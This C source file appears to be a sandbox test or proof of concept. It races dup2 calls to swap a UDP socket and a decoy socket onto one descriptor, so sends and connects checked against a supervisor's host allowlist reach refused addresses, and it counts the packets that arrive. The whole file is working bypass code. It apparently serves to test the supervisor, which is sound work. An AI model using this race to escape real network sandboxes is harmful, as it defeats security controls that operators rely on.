// The fd-swap attack on the host allowlist: one thread dup2's, over and over, a UDP socket and
// a decoy (a socket the supervisor used to let through: AF_UNIX, or TCP without MSG_FASTOPEN)
// onto one fd number, while the main thread sends to (or connects) a refused address through
// that number. A call decided on the decoy and then re-read by the kernel on the UDP socket
// reaches the address. A UDP receiver bound to the address counts what arrived.
//
//   fd_swap_send MODE ADDRESS TRIES      MODE: sendto-unix | sendto-tcp | sendmsg-tcp | connect-unix
//   prints "tries N succeeded S received R"
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { kSwapped = 200 };
static atomic_int stop, swapping;
static int udp, decoy;

static void* swapper(void* unused) {
    (void)unused;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        dup2(udp, kSwapped);
        dup2(decoy, kSwapped);
        atomic_store_explicit(&swapping, 1, memory_order_relaxed);
    }
    return NULL;
}

int main(int argc, char** argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: fd_swap_send MODE ADDRESS TRIES\n");
        return 2;
    }
    const char* mode = argv[1];
    const int tries = atoi(argv[3]);
    struct sockaddr_in target = {.sin_family = AF_INET};
    if (inet_pton(AF_INET, argv[2], &target.sin_addr) != 1) return 2;

    int receiver = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (receiver < 0 || bind(receiver, (struct sockaddr*)&target, sizeof target) != 0) {
        perror("receiver");
        return 2;
    }
    socklen_t length = sizeof target;
    getsockname(receiver, (struct sockaddr*)&target, &length);

    udp = socket(AF_INET, SOCK_DGRAM, 0);
    decoy = strstr(mode, "unix") ? socket(AF_UNIX, SOCK_DGRAM, 0) : socket(AF_INET, SOCK_STREAM, 0);
    if (udp < 0 || decoy < 0 || dup2(decoy, kSwapped) < 0) {
        perror("socket");
        return 2;
    }
    pthread_t thread;
    pthread_create(&thread, NULL, swapper, NULL);
    while (!atomic_load(&swapping)) {  // every try must race a swapper that is running
    }

    char byte = 'x';
    struct iovec iov = {&byte, 1};
    struct msghdr message = {.msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &iov, .msg_iovlen = 1};
    int succeeded = 0;
    for (int i = 0; i < tries; ++i) {
        long rc;
        if (strcmp(mode, "sendto-unix") == 0 || strcmp(mode, "sendto-tcp") == 0)
            rc = sendto(kSwapped, &byte, 1, MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr*)&target, sizeof target);
        else if (strcmp(mode, "sendmsg-tcp") == 0)
            rc = sendmsg(kSwapped, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
        else
            rc = connect(kSwapped, (struct sockaddr*)&target, sizeof target) == 0 ? 1 : -1;
        if (rc == 1) ++succeeded;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);

    int received = 0;
    char buffer[16];
    while (recv(receiver, buffer, sizeof buffer, 0) > 0) ++received;
    printf("tries %d succeeded %d received %d\n", tries, succeeded, received);
    return 0;
}
